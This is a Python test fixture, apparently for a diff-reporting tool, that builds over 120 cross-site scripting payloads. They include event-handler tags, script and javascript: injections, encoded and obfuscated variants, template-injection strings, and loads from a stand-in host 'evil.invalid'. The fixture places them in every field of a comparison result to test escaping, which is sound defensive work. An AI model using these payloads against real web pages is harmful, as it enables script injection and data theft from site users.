"""Texts that would run a script or ask for something, were they markup of a page; and values that hold one in every field."""

from __future__ import annotations

from pathlib import Path
from types import UnionType
from typing import Any, Literal, Union, get_args, get_origin, get_type_hints

import attrs

from frameengine.diff.result import Change, FieldChange, Kind, TraceDiff
from frameengine.jsonvalue import MISSING, FrozenMap, freeze

_RUN = "alert(1)"
_AWAY = "http://evil.invalid/x"
_QUOTES = '"' * 3
_HANDLERS = (
    ("img src=x", "onerror"),
    ("img src=data:image/gif;base64,R0lGODlhAQABAAAAACw=", "onload"),
    ("svg", "onload"),
    ("body", "onload"),
    ("body", "onpageshow"),
    ("video src=x", "onerror"),
    ("audio src=x", "onerror"),
    ("video", "onloadstart"),
    ("input autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("select autofocus", "onfocus"),
    ("button autofocus", "onfocus"),
    ("div tabindex=1 autofocus", "onfocus"),
    ("details open", "ontoggle"),
    ("marquee", "onstart"),
    ("object data=x", "onerror"),
    ("iframe src=about:blank", "onload"),
    ("style", "onload"),
    ("link rel=stylesheet href=data:text/css,", "onload"),
    ("script src=x", "onerror"),
    ("embed src=data:text/html,", "onload"),
    ("source src=x", "onerror"),
    ("div style=animation-name:x", "onanimationstart"),
    ("p style=transition:1s", "ontransitionend"),
    ("dialog open", "onclose"),
    ("form", "onformdata"),
    ("a href=x", "onmouseover"),
    ("body", "onscroll"),
    ("body", "onhashchange"),
    ("input type=image src=x", "onerror"),
)
_SHAPES = ("<{tag} {on}={run}>", "<{tag}/{on}='{run}'>", '"><{tag} {on}="{run}">')
_OTHERS = f"""
<script>{_RUN}</script>
<script src={_AWAY}></script>
<script type=module>import '{_AWAY}'</script>
<ScRiPt>{_RUN}</sCrIpT>
<scr<script>ipt>{_RUN}</scr</script>ipt>
<script>{_RUN}//
<script/x>{_RUN}</script>
</title><script>{_RUN}</script>
</style><script>{_RUN}</script>
</textarea><script>{_RUN}</script>
</pre></details><script>{_RUN}</script>
</summary><img src=x onerror={_RUN}>
--><script>{_RUN}</script>
]]><script>{_RUN}</script>
<!--><script>{_RUN}</script>
<![CDATA[><script>{_RUN}</script>]]>
<?xml version="1.0"?><script>{_RUN}</script>
'><script>{_RUN}</script>
"><script>{_RUN}</script>
`><script>{_RUN}</script>
" autofocus onfocus={_RUN} x="
' onmouseover={_RUN} x='
x onload={_RUN}
" style="background:url({_AWAY})
<a href=javascript:{_RUN}>x</a>
<a href="java&#10;script:{_RUN}">x</a>
<a href=" javascript:{_RUN}">x</a>
<a href="data:text/html,<script>{_RUN}</script>">x</a>
<a href=vbscript:msgbox(1)>x</a>
<area href=javascript:{_RUN}>
<form action=javascript:{_RUN}><input type=submit></form>
<button formaction=javascript:{_RUN}>x</button>
<iframe src=javascript:{_RUN}></iframe>
<iframe srcdoc="<script>{_RUN}</script>"></iframe>
<iframe src={_AWAY}></iframe>
<object data=javascript:{_RUN}></object>
<object data={_AWAY}></object>
<embed src={_AWAY}>
<frameset onload={_RUN}></frameset>
<svg><script>{_RUN}</script></svg>
<svg><script href={_AWAY} /></svg>
<svg><animate onbegin={_RUN} attributeName=x dur=1s>
<svg><set onbegin={_RUN} attributeName=x>
<svg><a xlink:href=javascript:{_RUN}><text y=9>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload={_RUN}/>#x"/></svg>
<svg><foreignObject><iframe onload={_RUN}></foreignObject></svg>
<svg><image href={_AWAY} /></svg>
<svg><style>*{{background:url({_AWAY})}}</style></svg>
<math><mtext><img src=x onerror={_RUN}></mtext></math>
<math href=javascript:{_RUN}>x</math>
<math><annotation-xml encoding="text/html"><img src=x onerror={_RUN}></annotation-xml></math>
<meta http-equiv=refresh content=0;url={_AWAY}>
<meta http-equiv=refresh content="0;url=javascript:{_RUN}">
<meta http-equiv=Content-Security-Policy content="script-src *">
<base href={_AWAY}>
<link rel=stylesheet href={_AWAY}>
<link rel=prefetch href={_AWAY}>
<link rel=dns-prefetch href={_AWAY}>
<link rel=preconnect href={_AWAY}>
<link rel=icon href={_AWAY}>
<link rel=manifest href={_AWAY}>
<style>@import '{_AWAY}';</style>
<style>body{{background:url({_AWAY})}}</style>
<style>@font-face{{font-family:x;src:url({_AWAY})}}*{{font-family:x}}</style>
<img src={_AWAY}>
<img srcset={_AWAY}>
<picture><source srcset={_AWAY}><img></picture>
<video poster={_AWAY}></video>
<video><track default src={_AWAY}></video>
<audio src={_AWAY} autoplay></audio>
<input type=image src={_AWAY}>
<body background={_AWAY}>
<table background={_AWAY}><tr><td background={_AWAY}>
<div style="background:url({_AWAY})">
<div style="width:expression({_RUN})">
<a ping={_AWAY} href=x>x</a>
<template><script>{_RUN}</script></template>
<noscript><p title="</noscript><img src=x onerror={_RUN}>">
<xmp><p title="</xmp><img src=x onerror={_RUN}>">
<plaintext><script>{_RUN}</script>
<portal src={_AWAY}></portal>
<isindex action=javascript:{_RUN}>
<keygen autofocus onfocus={_RUN}>
<x onclick={_RUN} contenteditable autofocus onfocus={_RUN}>x
&lt;script&gt;{_RUN}&lt;/script&gt;
&#60;script&#62;{_RUN}&#60;/script&#62;
&#x3c;script&#x3e;{_RUN}&#x3c;/script&#x3e;
%3Cscript%3E{_RUN}%3C/script%3E
\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e
+ADw-script+AD4-{_RUN}+ADw-/script+AD4-
\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e
\x00<script>{_RUN}</script>
<\x00script>{_RUN}</script>
<img\x0csrc=x\x0conerror={_RUN}>
<img\tsrc=x\tonerror={_RUN}>
<img src=x onerror\x0b={_RUN}>
\u2028<script>{_RUN}</script>\u2029
\u202e<script>{_RUN}</script>
\x1b[31m<script>{_RUN}</script>
<img src=x onerror=&#97;lert(1)>
<img src=x onerror="eval('al'+'ert(1)')">
<img src=`x`onerror={_RUN}>
<<img src=x onerror={_RUN}>>
<img {_QUOTES}><script>{_RUN}</script>">
{{{{constructor.constructor('{_RUN}')()}}}}
${{{_RUN}}}
<%= {_RUN} %>
"""
PAYLOADS: tuple[str, ...] = (
    *[shape.format(tag=tag, on=on, run=_RUN) for tag, on in _HANDLERS for shape in _SHAPES],
    *[line for line in _OTHERS.split("\n") if line],
    f"<script\n>{_RUN}</script\n>",
    f"<img\nsrc=x\nonerror\n=\n{_RUN}>",
)
"""Each is one text from outside."""
assert len(PAYLOADS) == len(frozenset(PAYLOADS)) >= 120


def filled(kind: Any, text: str, within: tuple[Any, ...] = ()) -> Any:
    """Return a value of this type in which every text is *text*, and every list has two items; words of ours stay ours.

    *within*: the types that it is part of; where it may be one of those again, there is none.
    """
    origin, inner = get_origin(kind), get_args(kind)
    if attrs.has(kind):
        hints = get_type_hints(kind)
        return kind(**{each.alias: filled(hints[each.name], text, (*within, kind)) for each in attrs.fields(kind) if each.init})
    if origin is Literal:
        return inner[0]
    if origin in (Union, UnionType):
        some = next(each for each in inner if each is not type(None))
        return None if some in within else filled(some, text, within)
    if origin is tuple:
        return (filled(inner[0], text, within), filled(inner[0], text, within))
    if kind is FrozenMap:
        return freeze({"path": text, "status": text, "calls": 1, text: text, "graph": {"name": text, "version": text}})
    simple: dict[Any, Any] = {str: text, int: 1, bool: False, Path: Path(text.replace("\x00", "?"))}
    return simple[kind] if kind in simple else freeze({text: [text, {text: text}]})


def poisoned(text: str) -> TraceDiff:
    """Return a comparison with *text* in every field: in changes of every kind, by themselves and as consequences."""
    found: TraceDiff = filled(TraceDiff, text)
    base: Change = filled(Change, text)
    values = [(text, f"x {text}"), (f"{text} y", text), (MISSING, text), (text, MISSING), (MISSING, base.whole), ("", text)]
    fields = [FieldChange(pointer=f"/{text}", left=left, right=right, right_pointer=text) for left, right in values]
    changes: list[Change] = []
    for kind in get_args(Kind):
        changes.append(attrs.evolve(base, kind=kind, fields=tuple(fields) if kind == "changed" else ()))
        changes.append(attrs.evolve(base, kind=kind, follows=True, fields=base.fields if kind == "changed" else ()))
    return attrs.evolve(found, changes=tuple(changes))
